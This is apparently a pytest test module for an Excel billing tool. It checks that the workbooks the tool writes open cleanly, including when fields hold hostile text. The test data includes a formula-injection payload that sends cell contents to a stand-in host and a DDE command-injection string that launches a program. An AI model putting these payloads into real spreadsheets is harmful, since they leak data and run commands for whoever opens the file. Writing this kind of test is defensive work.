"""Every workbook that we write is one that Excel opens without a question."""

import datetime as dt
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.builders import BILLING_DATE, D, Shop, a_full_year, copy_of
from tests.macros.driver import Workbook, a_shop_with_work
from tests.ooxml.check import problems_in
from timix_xl import macros
from timix_xl.hosts import files
from timix_xl.hosts.refusals import TextNotStorable
from timix_xl.importing.books_drawing import as_workbook
from timix_xl.importing.books_export import Books
from timix_xl.importing.books_writing import export_books
from timix_xl.settings import bundled
from timix_xl.workbook import finance_template, template

HOSTILE = {
    "a formula": '=HYPERLINK("http://evil/?"&A1,"x")',
    "a command": "=cmd|'/C calc'!A0",
    "signs": "+1 -1 @SUM(1)",
    "quotes": "\"it's\" ''quoted'' \"\"",
    "XML": '<a b="c">&amp;]]></a>',
    "an escape": "_x0041_ and _x005F_ and _xD800_",
    "lines": "one\ntwo\tthree",
    "spaces": "a  b",
    "emoji": "😀👩‍👩‍👧 שלום \u2028",
    "no characters": "\ufffd\u00a0\ufeff",
    "long": "x" * 10_000,
    "long emoji": "😀" * 10_000,
}  # fmt: skip


@pytest.fixture
def shop(template: Path, tmp_path: Path) -> Iterator[Shop]:
    """A furnished store of this test's own."""
    made = copy_of(template, tmp_path)
    yield made
    made.store.close()


def pressed(book: Workbook, macro: Callable[..., Any], **options: Any) -> list[str]:
    """Press a button; returns what Excel would say of the saved workbook."""
    book.run(macro, **options)
    return problems_in(book.path)


@pytest.mark.parametrize("name", ["billing.xlsx", "finance.xlsx"])
def test_the_bundled_workbooks(name: str) -> None:
    assert problems_in(bundled(name)) == []


@pytest.mark.parametrize("built", [template, finance_template], ids=lambda one: one.__name__[-16:])
def test_the_workbooks_as_they_are_built_now(built: Any) -> None:
    assert problems_in(built.build()) == []


def test_a_workbook_from_load_to_register(shop: Shop, tmp_path: Path) -> None:
    book = Workbook(tmp_path / "acme.xlsx", a_shop_with_work(shop).store)
    shop.order("FO-1", "20", customer="ACME")
    assert pressed(book, macros.refresh_customers) == []
    book.load()
    assert problems_in(book.path) == []
    book.decide(E1="Defer", E3="Write off")
    for macro in (macros.save_decisions, macros.preview, macros.issue, macros.refresh_invoices):
        assert pressed(book, macro) == [], macro


def test_a_workbook_with_a_draft_and_its_actions(shop: Shop, tmp_path: Path) -> None:
    book = Workbook(tmp_path / "acme.xlsx", a_shop_with_work(shop).store)
    book.load()
    for macro in (macros.bill_all, macros.save_draft, macros.refresh_invoices):
        assert pressed(book, macro) == [], macro
    number = book.rows("tblInvoices")[0]["Number"]
    book.type("tblInvoices", "Number", {number: {"Action": "Issue"}})
    assert pressed(book, macros.run_actions) == []


def test_a_workbook_whose_tables_shrink_to_nothing_and_grow_again(
    shop: Shop, tmp_path: Path
) -> None:
    book = Workbook(tmp_path / "acme.xlsx", a_shop_with_work(shop).store)
    shop.customer("BETA")
    for customer in ("ACME", "BETA", "ACME"):
        book.load(customer)
        assert problems_in(book.path) == []


def test_a_workbook_with_a_pro_forma(shop: Shop, tmp_path: Path) -> None:
    shop.project("X", tasks="T U", pro_forma=True, name="Portal")
    shop.time("X1", project="X", hours="7.5")
    shop.time("X2", project="X", hours="2", task="U", unit_cost=D(60))
    book = Workbook(tmp_path / "portal.xlsx", shop.store)
    assert pressed(book, macros.refresh_pro_forma) == []
    book.put(project="X", project_billing_date=BILLING_DATE)
    assert pressed(book, macros.bill_project) == []
    book.type("tblProForma", "Line", {"1": {"Amount to invoice": 700}})
    for macro in (macros.save_pro_forma, macros.open_pro_forma, macros.refresh_invoices):
        assert pressed(book, macro) == [], macro


def test_a_workbook_with_hostile_texts(shop: Shop, tmp_path: Path) -> None:
    shop.change("customers", {"code": "ACME"}, name=HOSTILE["a formula"])
    for number, text in enumerate(HOSTILE.values(), 1):
        shop.project(f"X{number}", name=text, pro_forma=True)
        shop.time(f"E{number}", description=text)
        shop.order(f"FO-{number}", "20", customer="ACME", title=text)
    book = Workbook(tmp_path / "acme.xlsx", shop.store)
    book.load()
    for macro in (macros.preview, macros.refresh_pro_forma):
        assert pressed(book, macro) == [], macro
    assert {HOSTILE["a formula"], HOSTILE["long emoji"]} <= set(book.column("Description"))


def test_a_workbook_with_what_a_person_added(shop: Shop, tmp_path: Path) -> None:
    book = Workbook(tmp_path / "acme.xlsx", a_shop_with_work(shop).store)
    with files.open_book(_copied(book.path)) as opened:
        sheet = opened.sheets["Entries"]
        sheet.range("Z1").value = ["=1+1", 32.5, True, dt.datetime(2026, 1, 31), " spaces "]
        sheet.range("Z2").value = "x" * 32_767
        sheet.range("Z3").add_hyperlink("#Billing!A1", "back")
        sheet.range("Z4").add_hyperlink("https://example.org/?a=b&c", "out", "a tip")
        opened.names.add("mine", "=Entries!$Z$1")
        opened.save()
    book.load()
    assert problems_in(book.path) == []


def test_a_text_of_emoji_that_excel_counts_as_too_long_is_not_written(tmp_path: Path) -> None:
    path = _copied(tmp_path / "acme.xlsx")
    with files.open_book(path) as opened:
        cell = opened.sheets["Billing"].range("Z1")
        cell.value = "😀" * 16_383
        with pytest.raises(TextNotStorable, match="32,768 characters"):
            cell.value = "😀" * 16_384
        opened.save()
    assert problems_in(path) == []


def test_books_of_nothing() -> None:
    assert problems_in(as_workbook(Books({}))) == []


def test_books_of_a_store(shop: Shop, tmp_path: Path) -> None:
    a_full_year(shop)
    exported = export_books(shop.store, tmp_path / "books.xlsx", today=dt.date(2026, 12, 31))
    assert problems_in(exported.path) == []


def test_books_with_hostile_texts() -> None:
    rows = [{"code": f"V{at}", "name": text} for at, text in enumerate(HOSTILE.values())]
    assert problems_in(as_workbook(Books({"vendors": rows}))) == []


@pytest.mark.parametrize("is_addin", [True, False], ids=["an add-in", "a workbook with macros"])
def test_the_add_in(is_addin: bool, tmp_path: Path) -> None:
    from timix_xl.addin import build, icons, modules, package, ribbon

    path = tmp_path / ("timix.xlam" if is_addin else "timix.xlsm")
    sheets = [
        package.Sheet("timix.conf", "Sheet1", [["VERSION", "1"]]),
        package.Sheet("_IntelliSense_", "Sheet2", [["FunctionInfo", "1.0"]], hidden=True),
    ]
    whole = package.package(
        modules.modules(),
        sheets=sheets,
        ribbon=ribbon.ribbon_xml(),
        images=icons.images(),
        is_addin=is_addin,
    )
    path.write_bytes(build.build() if is_addin else whole)
    assert problems_in(path) == []


def _copied(path: Path) -> Path:
    shutil.copy(bundled("billing.xlsx"), path)
    return path
